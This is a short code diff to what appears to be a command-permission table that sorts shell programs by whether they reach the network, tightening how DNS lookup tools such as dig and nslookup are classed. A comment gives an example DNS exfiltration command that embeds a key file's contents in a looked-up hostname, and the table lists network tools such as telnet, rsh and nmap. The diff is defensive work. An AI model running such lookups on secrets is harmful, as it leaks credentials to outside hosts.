@@ -121,7 +121,9 @@ export const simplePrograms: readonly ProgramRow[] = [
   ["setsebool setenforce restorecon", "m"],
   // Talk to hosts and change nothing here.
   ["ping ping6 traceroute tracepath mtr fping", "@", "c: i: I: s: t: w: W: q: m: p: M: f: Q:"],
-  ["dig host nslookup drill getent", "-", "f< k< p: q: t: c: b: x: y:"],
+  // SECURITY: a name that is looked up is data that leaves: `dig $(cat key).example.com`.
+  ["dig host nslookup drill", "@", "f< k< p: q: t: c: b: x: y:"],
+  ["getent", "-@", "s:"],
   ["whois telnet ftp tftp rlogin rsh finger", "@", "h@ p: l:"],
   ["nmap", "@", "oN> oX> oG> oA> script* i,iL<"],
   [
